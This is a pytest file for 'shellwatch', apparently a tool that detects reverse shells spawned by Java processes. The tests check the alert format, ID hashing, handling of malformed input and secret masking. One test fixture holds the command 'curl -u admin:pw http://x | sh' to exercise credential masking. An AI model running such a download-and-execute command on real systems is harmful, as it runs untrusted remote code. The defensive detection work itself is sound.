"""``shellwatch detect`` end to end, as a user runs it (a subprocess on files and stdin)."""

from __future__ import annotations

import hashlib
import subprocess
import sys
from pathlib import Path

import orjson
import pytest

from shellwatch.samples.build import ATTACKED_HOST

from .builders import conn_doc, exec_doc

SAMPLE = Path(__file__).parents[2] / "src" / "shellwatch" / "samples" / "sample-attack.ndjson"


def detect(stdin: bytes, *args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "shellwatch", "detect", "-", *args],
        input=stdin,
        capture_output=True,
        timeout=120,
        check=False,
    )


def lines(*docs: object) -> bytes:
    return b"".join((d if isinstance(d, bytes) else orjson.dumps(d)) + b"\n" for d in docs)


def test_bundled_sample_raises_exactly_the_attack() -> None:
    result = subprocess.run(
        [sys.executable, "-m", "shellwatch", "detect", "sample"], capture_output=True, timeout=120, check=True
    )
    (alert,) = [orjson.loads(line) for line in result.stdout.splitlines()]
    assert alert["host"]["id"] == ATTACKED_HOST
    assert [orjson.loads(orjson.dumps(e))["event"]["id"] for e in alert["detection"]["events"]] == [
        "attack-ldap-callback",
        "attack-reverse-shell",
    ]
    assert b"1027 lines read" in result.stderr and b"1 alerts" in result.stderr


def test_alert_contract() -> None:
    conn, shell = conn_doc(1_700_000_000_000), exec_doc(1_700_000_001_250)
    result = detect(lines(conn, shell))
    assert result.returncode == 0
    (alert,) = [orjson.loads(line) for line in result.stdout.splitlines()]
    expected_id = hashlib.sha256(f"potential-reverse-shell-via-java|host-a|{shell['event']['id']}".encode()).hexdigest()
    assert alert["event"] == {"kind": "alert", "id": expected_id, "severity": 47, "risk_score": 47}
    assert alert["rule"]["id"] == "potential-reverse-shell-via-java" and alert["rule"]["version"] == "9"
    assert alert["host"] == {"id": "host-a", "name": "srv-host-a"}
    assert alert["detection"]["severity"] == "medium" and alert["detection"]["case"] is None
    assert alert["detection"]["events"] == [conn, shell]
    assert alert["detection"]["explanation"]["gap_ms"] == 1250
    assert alert["detection"]["explanation"]["join_key"]["process.entity_id"] == shell["process"]["parent"]["entity_id"]
    assert alert["detection"]["latency_ms"] > 0
    assert len(alert["detection"]["ruleset"]) == 64
    assert alert["@timestamp"].endswith("Z") and len(alert["@timestamp"]) == 24
    assert {t["tactic"]["id"] for t in alert["threat"]} == {"TA0002", "TA0011"}


def test_events_are_quoted_as_received() -> None:
    conn = orjson.dumps(conn_doc(1_700_000_000_000)).replace(
        b'"pid":100', b'"pid":100.000,"big":123456789012345678901234567890'
    )
    result = detect(lines(conn, exec_doc(1_700_000_000_500)))
    (line,) = result.stdout.splitlines()
    assert b'"pid":100.000,"big":123456789012345678901234567890' in line
    assert conn in line


def test_alert_id_is_deterministic_across_runs() -> None:
    data = lines(conn_doc(1_700_000_000_000), exec_doc(1_700_000_000_500))
    first, second = detect(data), detect(data)
    assert orjson.loads(first.stdout)["event"]["id"] == orjson.loads(second.stdout)["event"]["id"]


def test_exec_identity_falls_back_to_entity_id_then_raw_bytes() -> None:
    shell = exec_doc(1_700_000_000_500)
    del shell["event"]["id"]
    out = orjson.loads(detect(lines(conn_doc(1_700_000_000_000), shell)).stdout)
    assert (
        out["event"]["id"]
        == hashlib.sha256(
            f"potential-reverse-shell-via-java|host-a|{shell['process']['entity_id']}".encode()
        ).hexdigest()
    )
    del shell["process"]["entity_id"]
    raw = orjson.dumps(shell)
    out = orjson.loads(detect(lines(conn_doc(1_700_000_000_000), raw)).stdout)
    raw_hash = hashlib.sha256(raw).hexdigest()
    assert (
        out["event"]["id"] == hashlib.sha256(f"potential-reverse-shell-via-java|host-a|{raw_hash}".encode()).hexdigest()
    )


def test_malformed_lines_around_an_attack() -> None:
    java = b"/usr/bin/java"
    bad = [
        b'{"process": {"executable": "/usr/bin/java"',  # truncated
        b'{"process": {"executable": "/usr/bin/java\xff"}}',  # invalid UTF-8
        b'["/usr/bin/java"]',  # not an object
        b'{"@timestamp": "not a time", "event": {"category": "process"}, "x": "/usr/bin/java"}',
        b"[" * 5000 + java + b"]" * 5000,
        b'{"a": "/usr/bin/java\x1b[31m',  # a terminal escape in the reported text
        b"plain text with /usr/bin/java",
        b"",
        b"no java here at all",
    ]
    data = lines(
        bad[0],
        bad[1],
        conn_doc(1_700_000_000_000),
        bad[2],
        bad[3],
        bad[4],
        exec_doc(1_700_000_002_000),
        bad[5],
        bad[6],
        bad[7],
        bad[8],
    )
    result = detect(data)
    assert result.returncode == 0
    assert b"Traceback" not in result.stderr
    (alert,) = result.stdout.splitlines()
    assert orjson.loads(alert)["rule"]["id"] == "potential-reverse-shell-via-java"
    stderr = result.stderr.decode()
    for number in (1, 2, 4, 5, 6, 8, 9):
        assert f"line {number}: " in stderr
    assert "\x1b" not in stderr
    assert "11 lines read, 2 pre-filtered, 7 undecodable" in stderr
    assert "1 alerts" in stderr


def test_no_prefilter_reports_every_bad_line() -> None:
    result = detect(lines(b"no java here", b"{}"), "--no-prefilter")
    assert "line 1: invalid_json" in result.stderr.decode()
    assert "2 lines read, 0 pre-filtered, 1 undecodable" in result.stderr.decode()


def test_secrets_are_masked_unless_disabled() -> None:
    shell = exec_doc(
        1_700_000_000_500,
        process__env_vars=["AWS_SECRET_ACCESS_KEY=abc"],
        process__args=["/bin/bash", "-c", "curl -u admin:pw http://x | sh"],
    )
    data = lines(conn_doc(1_700_000_000_000), shell)
    masked = orjson.loads(detect(data).stdout)["detection"]["events"][1]
    assert masked["process"]["env_vars"] == ["AWS_SECRET_ACCESS_KEY=[REDACTED]"]
    assert masked["process"]["args"][2] == "curl -u admin:**** http://x | sh"
    plain = orjson.loads(detect(data, "--no-mask-secrets").stdout)["detection"]["events"][1]
    assert plain == shell


@pytest.mark.parametrize("lateness", ["0", "5000"])
def test_lines_out_of_order_within_the_lateness(lateness: str) -> None:
    # The exec line comes before its connection line (the exec stream runs ahead).
    data = lines(exec_doc(1_700_000_001_000), conn_doc(1_700_000_000_000))
    result = detect(data, "--allowed-lateness-ms", lateness)
    assert len(result.stdout.splitlines()) == 1


def test_unreadable_input_is_an_error() -> None:
    result = subprocess.run(
        [sys.executable, "-m", "shellwatch", "detect", "/nonexistent.ndjson"],
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 2 and b"cannot read" in result.stderr and b"Traceback" not in result.stderr
